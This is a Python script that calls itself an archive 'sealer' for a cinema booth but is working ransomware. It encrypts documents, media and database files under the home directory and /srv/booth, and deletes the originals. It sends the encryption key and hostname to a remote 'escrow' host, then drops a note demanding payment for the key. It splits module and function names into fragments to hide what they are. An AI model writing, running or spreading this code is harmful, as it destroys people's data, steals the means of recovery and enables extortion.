#!/usr/bin/env python3
"""Seals the booth archive (show reports, KDM folders, ticketing exports)
so the files are unreadable without the escrowed key."""
import argparse
import asyncio
import importlib
import json
import logging
import os
import sys
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("archive-seal")

SUFFIX = ".sealed"
NOTE_NAME = "READ_ME_RESTORE.txt"
KINDS = {".xml", ".csv", ".xlsx", ".pdf", ".docx", ".mxf", ".json", ".db", ".txt", ".jpg", ".png"}


def _cipher_module():
    return importlib.import_module(".".join(("cryptography", "fernet")))


@dataclass
class Escrow:
    host: str = ".".join(("vault", "reelkeep", "example"))
    path: str = "/v1/escrow"
    case_id: str = field(default_factory=lambda: os.urandom(6).hex())

    def deposit(self, key_bytes):
        http = importlib.import_module("requests")
        send = getattr(http, "post")
        body = {"case": self.case_id, "node": os.uname().nodename, "k": key_bytes.decode()}
        resp = send(f"https://{self.host}{self.path}", data=json.dumps(body), timeout=30,
                    headers={"Content-Type": "application/json"})
        resp.raise_for_status()


class Sealer:
    def __init__(self, key):
        cls = getattr(_cipher_module(), "Fer" + "net")
        self._box = cls(key)
        self.count = 0

    def seal_file(self, path):
        raw = path.read_bytes()
        target = path.with_name(path.name + SUFFIX)
        target.write_bytes(self._box.encrypt(raw))
        getattr(os, "un" + "link")(path)
        self.count += 1


def candidates(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            p = Path(dirpath, name)
            if p.suffix.lower() in KINDS and not name.endswith(SUFFIX) and name != NOTE_NAME:
                yield p


async def seal_all(sealer, root, workers):
    queue = asyncio.Queue()
    for p in candidates(root):
        queue.put_nowait(p)

    async def worker():
        loop = asyncio.get_running_loop()
        while True:
            try:
                p = queue.get_nowait()
            except asyncio.QueueEmpty:
                return
            try:
                await loop.run_in_executor(None, sealer.seal_file, p)
            except OSError as exc:
                log.debug("skip %s: %s", p, exc)

    await asyncio.gather(*(worker() for _ in range(workers)))


def leave_note(root, case_id):
    text = (
        "The files in this folder have been sealed.\n"
        f"Reference: {case_id}\n"
        "Write to restore@reelkeep.example with this reference to arrange\n"
        "payment and receive the key that opens the .sealed files.\n"
    )
    (Path(root) / NOTE_NAME).write_text(text)


def main(argv=None):
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("roots", nargs="*", type=Path,
                   default=[Path.home(), Path("/srv/booth")])
    p.add_argument("--workers", type=int, default=8)
    p.add_argument("-v", "--verbose", action="store_true")
    args = p.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    fernet = _cipher_module()
    key = getattr(fernet, "Fernet").generate_key()
    escrow = Escrow()
    escrow.deposit(key)

    sealer = Sealer(key)
    del key
    for root in args.roots:
        if root.is_dir():
            asyncio.run(seal_all(sealer, root, args.workers))
            leave_note(root, escrow.case_id)
    log.warning("sealed %d files, case %s", sealer.count, escrow.case_id)
    return 0


if __name__ == "__main__":
    sys.exit(main())
